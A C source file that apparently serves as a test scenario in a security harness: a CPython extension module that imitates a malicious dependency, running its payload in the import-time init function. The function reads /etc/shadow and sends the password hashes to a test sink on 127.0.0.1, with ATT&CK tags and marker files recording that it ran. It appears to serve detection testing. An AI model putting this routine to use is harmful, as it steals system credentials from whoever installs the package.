/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* scnpymod.so: a CPython extension module, as a malicious package ships
 * one, with no constructor: its work is in the init that `import` calls
 * right after the module's dlopen (PyInit_NAME). It steals the password
 * hashes and sends them to the runner's sink on 127.0.0.1. Needs no
 * Python headers: the init returns NULL, and the interpreter raises
 * SystemError afterwards, too late.
 * ATT&CK: T1195.001 (a compromised dependency), T1059.006 (Python),
 * T1003.008 exfiltrated over the C2 channel (T1041).
 * Proof: NAME.ran first; NAME.done once the sink acknowledged every byte. */
#include "scn.h"

__attribute__((visibility("default"))) void *PyInit_scnpymod(void)
{
	char buf[65536];
	ssize_t n;
	int fd;

	scn_mark("ran");
	fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n > 0 && !scn_sink_send(buf, n))
		scn_mark("done");
	return NULL;
}
